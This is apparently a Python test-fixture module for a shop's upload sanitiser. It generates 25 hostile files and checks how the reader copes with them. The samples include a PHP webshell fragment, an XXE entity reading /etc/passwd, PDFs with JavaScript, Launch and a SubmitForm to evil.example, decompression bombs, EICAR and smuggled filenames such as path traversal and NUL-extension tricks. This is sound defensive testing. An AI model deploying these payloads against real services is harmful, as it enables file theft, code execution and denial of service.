"""Papers that want to do harm: 25 files, each with the word that must come out nowhere where it could carry one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache
from typing import NamedTuple

from PIL import Image

from tests.papers import CANARY, as_file, jpeg, packed, pdf

SCRIPT = b"<script>alert(1)</script>" + CANARY
# What runs where it is opened, and the words of the files that carry it; none of it comes out of a clean picture.
ACTIVE = (CANARY, b"<script", b"<svg", b"<?php", b"<!DOCTYPE", b"<html", b"/JavaScript", b"/Launch", b"EICAR", b"%PDF")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class Hostile(NamedTuple):
    """A file, its name, and whether clean pictures may come of it (`None`: either will do)."""

    name: str
    content: bytes
    is_cleaned: bool | None


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, *more: bytes, rows: int = 1) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(width + 1) * rows, 9)
    parts = [_chunk(b"IHDR", head), *more, _chunk(b"IDAT", body), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _zip(inside: bytes, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as box:
        box.writestr("word/document.xml", inside)
    return out.getvalue()


def _apng(frames: int) -> bytes:
    small = [Image.new("L", (220, 220), n % 2 * 255) for n in range(2)]
    made = as_file(small[0], "PNG", save_all=True, append_images=small[1:])
    return made.replace(struct.pack(">II", 2, 0), struct.pack(">II", frames, 0), 1)


def _moving_webp() -> bytes:
    frames = [Image.new("RGB", (220, 220), (n * 60, 0, 0)) for n in range(4)]
    return as_file(frames[0], "WEBP", save_all=True, append_images=frames[1:])


def _flate_bomb() -> bytes:
    body = zlib.compress(bytes(300_000_000), 9)
    image = b"<< /Type /XObject /Subtype /Image /Width 17320 /Height 17320 /ColorSpace /DeviceGray /BitsPerComponent 8"
    image += b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"
    return pdf(image, page=b"/Resources << /XObject << /Im 100 0 R >> >>")


SCRIPTED = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ATTACHED = b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"
LAUNCH = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /La#75nch /F (calc.exe) >> >>"
LOCK = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U (" + b"y" * 32 + b") /P -4 >> /ID [(a) (b)]"


PAYLOADS = (CANARY, b"PK\3\4", b"<?php", b"<script", b"GPS", b"EICAR", b"/JavaScript")


def carried(made: bytes) -> list[str]:
    """What came along with a picture that should be a picture only, and whether it is one to its last byte."""
    found = [repr(one) for one in PAYLOADS if one.lower() in made.lower()]
    with Image.open(io.BytesIO(made)) as picture:
        found += [name for name in ("exif", "comment", "icc_profile", "xmp", "photoshop") if picture.info.get(name)]
        found += ["exif"] if dict(picture.getexif()) else []
        picture.load()
    size = struct.unpack("<I", made[4:8])[0] + 8 if made[:4] == b"RIFF" else made.rfind(b"\xff\xd9") + 2
    return found + (["more behind its end"] if size != len(made) else [])


@cache
def every() -> list[Hostile]:
    """All of them. The 25 of the promise, and what they are called."""
    photo = jpeg()
    return [
        Hostile("a GIF with a script", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//" + CANARY, False),
        Hostile("a JPEG that is a ZIP too", photo + _zip(SCRIPT, zipfile.ZIP_STORED), True),
        Hostile("a JPEG with PHP in it", jpeg().replace(CANARY, b"<?php system($_GET[1]);"[: len(CANARY)]), True),
        Hostile("a PNG with HTML in it", _png(300, 300, _chunk(b"tEXt", b"Comment\0" + SCRIPT), rows=300), True),
        Hostile("an SVG with a script", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", False),
        Hostile("an SVG that calls itself PNG", b"<?xml version='1.0'?><svg>" + SCRIPT + b"</svg>", False),
        Hostile("an XML that reads files", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", False),
        Hostile("a PNG of 400 megapixels", _png(20_000, 20_000, rows=20_000), False),
        Hostile("a PNG of 90 megapixels", _png(9_500, 9_500, rows=9_500), False),
        Hostile("a PNG of 10,000 frames", _apng(10_000), False),
        Hostile("a WebP that moves", _moving_webp(), False),
        Hostile("a photograph that tells where", photo, True),
        Hostile("a photograph cut off in the middle", photo[: len(photo) // 2], None),
        Hostile(
            "a PDF with JavaScript", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", root=b"/OpenAction 100 0 R"), False
        ),
        Hostile("a PDF that starts a program", pdf(LAUNCH, page=b"/Annots [100 0 R]"), False),
        Hostile(
            "a PDF with a file in it",
            pdf(ATTACHED, root=b"/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>"),
            False,
        ),
        Hostile("a PDF that hides a launch", pdf(packed(b"<< /S /Launch /F (x) >>")), False),
        Hostile("a PDF that sends a form", pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), False),
        Hostile("a PDF with a password", pdf(trailer=LOCK), False),
        Hostile("a PDF of 21 pages", pdf(pages=21), False),
        Hostile("a PDF that unpacks to 300 MB", _flate_bomb(), None),
        Hostile("a ZIP that unpacks to 300 MB", _zip(bytes(300_000_000)), False),
        Hostile("a Word file", _zip(b"<w:document/>" + SCRIPT), False),
        Hostile("a test virus", EICAR, False),
        Hostile("something with a NUL", b"\0" + CANARY, False),
    ]


NAMES = ("../../../etc/passwd", "card.jpg\0.php", "x" * 300 + ".jpg", "\u202egpj.exe", "con.jpg")

if __name__ == "__main__":
    import json
    import os
    import re
    import resource
    import sys
    import time
    from pathlib import Path

    from shop.gateways import paper_reader

    read = {"paper": paper_reader.read, "picture": paper_reader.read_for_show}[sys.argv[2]]

    def look_at(path: Path) -> list[object]:
        """What became of one file, how many seconds it took, and how many megabytes of memory at most."""
        began = time.monotonic()
        with path.open("rb") as file:
            try:
                found = read(file)
                made = found.pages if sys.argv[2] == "paper" else found.sizes
                end = next((f"carries {one}" for page in made for one in carried(page)), "cleaned")
            except paper_reader.UnfitError as error:
                end = str(error.flaw)
        took = time.monotonic() - began
        # What the process itself took at most: `getrusage` would count what its parent had when it was forked, too.
        own = re.search(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text("ascii"))
        most = max(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, int(own[1] if own else 0))
        return [end, took, most / 1024]

    told = {}
    for path in sorted(Path(sys.argv[1]).iterdir()):
        here, there = os.pipe()
        if (child := os.fork()) == 0:  # for each file a process of its own, so that its children's memory can be told
            os.write(there, json.dumps(look_at(path)).encode())
            os._exit(0)
        os.close(there)
        with os.fdopen(here) as answer:
            told[path.name] = json.load(answer)
        os.waitpid(child, 0)
    print(json.dumps(told))
